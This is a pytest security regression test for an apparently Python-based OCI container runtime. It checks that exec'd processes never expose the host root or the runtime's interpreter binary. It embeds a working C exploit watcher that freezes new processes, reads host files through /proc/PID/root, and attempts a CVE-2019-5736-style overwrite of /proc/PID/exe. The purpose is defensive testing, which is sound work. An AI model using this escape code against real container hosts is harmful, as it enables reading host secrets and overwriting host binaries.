"""Finding 1b: an exec'd process is never visible in the container with the host's root
(nor with the host interpreter as its exe).

A container given CAP_SYS_PTRACE runs a watcher (static C, `WATCHER_C`) as its
init: it stops every new process of its pid namespace the moment it appears
(SIGSTOP: the window is then as wide as the watcher wants), opens
`/proc/PID/root/<a host file>` and lets it go. Before the fix the exec'd
process was forked into the pid namespace with the host's root and joined
the mount namespace ~10 ms later; now an intermediate process joins every
namespace first and only then forks into the pid namespace, as runc does.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
import uuid

import pytest

from pyocijail.testing import bundles
from tests.helpers import sha256

pytestmark = [pytest.mark.root, pytest.mark.busybox]

WATCHER_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char seen[65536];
static int exes[64], nexes;
static char names[64][512];

int main(int argc, char **argv) {
    const char *hostpath = argv[1];
    time_t end = time(NULL) + atoi(argv[2]);
    FILE *log = fopen("/tmp/watch.log", "w");
    setvbuf(log, NULL, _IOLBF, 0);
    for (int pass = 0; time(NULL) < end && access("/tmp/stop", F_OK) != 0; pass++) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid >= 65536 || seen[pid] || pid == getpid()) continue;
            seen[pid] = 1;
            if (pass == 0) continue;  /* there before us */
            kill(pid, SIGSTOP);
            char path[4200], exe[512] = {0}, buf[128] = {0};
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            readlink(path, exe, sizeof exe - 1);
            snprintf(path, sizeof path, "/proc/%d/root%s", pid, hostpath);
            int fd = open(path, O_RDONLY);
            if (fd >= 0) {
                read(fd, buf, sizeof buf - 1);
                fprintf(log, "pid %d SAW THE HOST FILE: %s (exe %s)\n", pid, buf, exe);
                close(fd);
            } else {
                fprintf(log, "pid %d: %s (exe %s)\n", pid, strerror(errno), exe);
            }
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            if (nexes < 64) {  /* kept for later */
                strcpy(names[nexes], exe);
                exes[nexes++] = open(path, O_PATH);
            }
            kill(pid, SIGCONT);
        }
        closedir(d);
        if (pass == 0) fprintf(log, "ready\n");
    }
    /* CVE-2019-5736 through /proc/PID/exe: reopen each kept exe for writing once
       it runs no more (the runtime has exited by now). */
    for (int i = 0; i < nexes; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", exes[i]);
        int w = exes[i] < 0 ? -1 : open(path, O_WRONLY | O_APPEND);
        if (w >= 0 && write(w, "PWNED", 5) == 5)
            fprintf(log, "exe WRITTEN: %s\n", names[i]);
        else
            fprintf(log, "exe write refused: %s: %s\n", names[i], strerror(errno));
        if (w >= 0) close(w);
    }
    fprintf(log, "done\n");
    return 0;
}
"""


@pytest.fixture(scope="module")
def watcher(tmp_path_factory):
    gcc = shutil.which("gcc")
    if gcc is None:
        pytest.skip("needs gcc (the watcher is a static C program)")
    src = tmp_path_factory.mktemp("watcher") / "watcher.c"
    src.write_text(WATCHER_C)
    out = src.with_suffix("")
    subprocess.run([gcc, "-static", "-O1", "-o", str(out), str(src)], check=True)
    return str(out)


def _log(bundle: str) -> str:
    path = os.path.join(bundle, "rootfs", "tmp", "watch.log")
    return open(path).read() if os.path.exists(path) else ""


def _wait_for(bundle: str, word: str, timeout: float = 20) -> str:
    deadline = time.monotonic() + timeout
    while word not in _log(bundle):
        assert time.monotonic() < deadline, f"watcher never said {word!r}: {_log(bundle)}"
        time.sleep(0.02)
    return _log(bundle)


def test_a_container_with_sys_ptrace_never_sees_the_host_root_or_exe_of_an_exec(
        private_runtime, workdir, watcher):
    """The watcher also keeps /proc/PID/exe of each process it caught and reopens
    it for writing at the end: the runtime runs from a private interpreter copy
    (`private_runtime`), which must stay unchanged."""
    runtime = private_runtime
    secret = os.path.join(workdir, f"host-secret-{uuid.uuid4().hex}")
    with open(secret, "w") as f:
        f.write("host file")
    path = os.path.join(workdir, "b1b")
    rootfs = bundles.make_rootfs(os.path.join(path, "rootfs"))
    shutil.copy2(watcher, os.path.join(rootfs, "watcher"))
    doc = bundles.config(["/watcher", secret, "20"])
    caps = doc["process"]["capabilities"]
    for kind in ("bounding", "effective", "permitted"):
        caps[kind] = sorted({*caps.get(kind, []), "CAP_SYS_PTRACE"})
    bundles.write_config(path, doc)
    runtime.ok("create", "--bundle", path, "sec1b")
    runtime.ok("start", "sec1b")
    _wait_for(path, "ready")
    for _ in range(4):
        runtime.ok("exec", "sec1b", "/bin/true")
    open(os.path.join(rootfs, "tmp", "stop"), "w").close()
    log = _wait_for(path, "done")
    runtime.ok("delete", "--force", "sec1b")
    caught = [line for line in log.splitlines() if line.startswith("pid ")]
    assert caught, log  # (the helper lives microseconds: not every one is caught)
    assert "SAW THE HOST FILE" not in log, log
    assert sha256(runtime.private_python) == runtime.private_sha256, log
    written = {line.split(": ", 1)[1] for line in log.splitlines()
               if line.startswith("exe WRITTEN")}
    assert written <= {"/bin/busybox"}, log  # the container's own file: its to write
    # what appears in the container is the sealed helper from birth (then the
    # program, busybox), never the runtime
    exes = {line[line.index("(exe ") + 5:-1] for line in caught}
    assert exes <= {"/memfd:pyocijail-exec (deleted)", "/bin/busybox", ""}, log  # "": gone
